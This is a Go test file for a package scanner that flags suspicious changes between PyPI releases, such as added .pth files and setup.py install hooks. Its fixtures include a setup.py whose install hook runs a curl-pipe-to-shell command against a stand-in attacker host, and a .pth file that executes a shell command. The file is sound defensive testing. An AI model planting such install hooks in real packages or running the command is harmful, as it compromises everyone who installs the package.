package delta

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"strings"
	"testing"

	"github.com/trove-dev/trove/internal/scan"
)

// wheel is a wheel file with the members (name, content, ...).
func wheel(t *testing.T, name string, members ...string) scan.File {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i := 0; i+1 < len(members); i += 2 {
		f, err := w.Create(members[i])
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(members[i+1]))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return scan.File{Name: name, Size: int64(buf.Len()), Content: bytes.NewReader(buf.Bytes())}
}

// sdist is a .tar.gz sdist with the members (name, content, ...).
func sdist(t *testing.T, name string, members ...string) scan.File {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for i := 0; i+1 < len(members); i += 2 {
		tw.WriteHeader(&tar.Header{Name: members[i], Mode: 0o644, Size: int64(len(members[i+1])), Typeflag: tar.TypeReg})
		tw.Write([]byte(members[i+1]))
	}
	tw.Close()
	gz.Close()
	return scan.File{Name: name, Size: int64(buf.Len()), Content: bytes.NewReader(buf.Bytes())}
}

func pypiRelease(version string, files ...scan.File) *scan.Artifact {
	return &scan.Artifact{Ecosystem: "pypi", Name: "demo", Version: version, Files: files}
}

func TestPyPIHooks(t *testing.T) {
	const plainSetup = "from setuptools import setup\nsetup(name='demo')\n"
	const hookSetup = "from setuptools import setup\nfrom setuptools.command.install import install\n" +
		"class Run(install):\n    def run(self):\n        import os; os.system('curl -s https://attacker.example | sh')\n" +
		"setup(name='demo', cmdclass={'install': Run})\n"
	whl := func(v string, extra ...string) scan.File {
		return wheel(t, "demo-"+v+"-py3-none-any.whl", append([]string{"demo/__init__.py", "x = 1\n", "demo-" + v + ".dist-info/METADATA", "Name: demo\n"}, extra...)...)
	}
	sd := func(v string, extra ...string) scan.File {
		return sdist(t, "demo-"+v+".tar.gz", append([]string{"demo-" + v + "/pyproject.toml", "[project]\nname='demo'\n", "demo-" + v + "/demo/__init__.py", "x = 1\n"}, extra...)...)
	}
	for _, tc := range []struct {
		name       string
		prev, next *scan.Artifact
		want       []string
	}{
		{"unchanged", pypiRelease("1.0", whl("1.0"), sd("1.0")), pypiRelease("1.1", whl("1.1"), sd("1.1")), nil},
		{".pth added", pypiRelease("1.0", whl("1.0")), pypiRelease("1.1", whl("1.1", "demo-init.pth", "import os; os.system('id')\n")),
			[]string{"pth-added: .pth file added: demo-init.pth in demo-1.1-py3-none-any.whl (1.0 had none)"}},
		{".pth kept", pypiRelease("1.0", whl("1.0", "distutils-precedence.pth", "import _distutils_hack\n")),
			pypiRelease("1.1", whl("1.1", "distutils-precedence.pth", "import _distutils_hack\n")), nil},
		{".pth below the top is not run", pypiRelease("1.0", whl("1.0")), pypiRelease("1.1", whl("1.1", "demo/data.pth", "x\n")), nil},
		{"setup.py added", pypiRelease("1.0", sd("1.0")), pypiRelease("1.1", sd("1.1", "demo-1.1/setup.py", plainSetup)),
			[]string{"setup-py-added: setup.py added in demo-1.1.tar.gz (1.0's sdist had none)"}},
		{"cmdclass added", pypiRelease("1.0", sd("1.0", "demo-1.0/setup.py", plainSetup)), pypiRelease("1.1", sd("1.1", "demo-1.1/setup.py", hookSetup)),
			[]string{"cmdclass-added: setup.py in demo-1.1.tar.gz now overrides setup commands (cmdclass); 1.0's did not"}},
		{"cmdclass kept", pypiRelease("1.0", sd("1.0", "demo-1.0/setup.py", hookSetup)), pypiRelease("1.1", sd("1.1", "demo-1.1/setup.py", hookSetup)), nil},
		{"no sdist to compare with", pypiRelease("1.0", whl("1.0")), pypiRelease("1.1", sd("1.1", "demo-1.1/setup.py", hookSetup)), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.next.Previous = tc.prev
			fs, err := New(Defaults()).Scan(context.Background(), tc.next)
			if err != nil {
				t.Fatal(err)
			}
			if len(fs) != len(tc.want) {
				t.Fatalf("findings %+v, want %q", fs, tc.want)
			}
			for i, f := range fs {
				if got := f.Rule + ": " + f.Message; !strings.HasPrefix(got, tc.want[i]) || f.Verdict != scan.Hold || f.File == "" {
					t.Errorf("finding %d = %q (%v, file %q), want %q, hold, a file", i, got, f.Verdict, f.File, tc.want[i])
				}
			}
		})
	}
	// A damaged upload cannot be compared: the scanner says so.
	bad := pypiRelease("1.1", scan.File{Name: "demo-1.1-py3-none-any.whl", Size: 4, Content: strings.NewReader("junk")})
	bad.Previous = pypiRelease("1.0", whl("1.0"))
	if _, err := New(Defaults()).Scan(context.Background(), bad); err == nil {
		t.Error("Scan(a wheel that is not a zip) = nil error")
	}
}
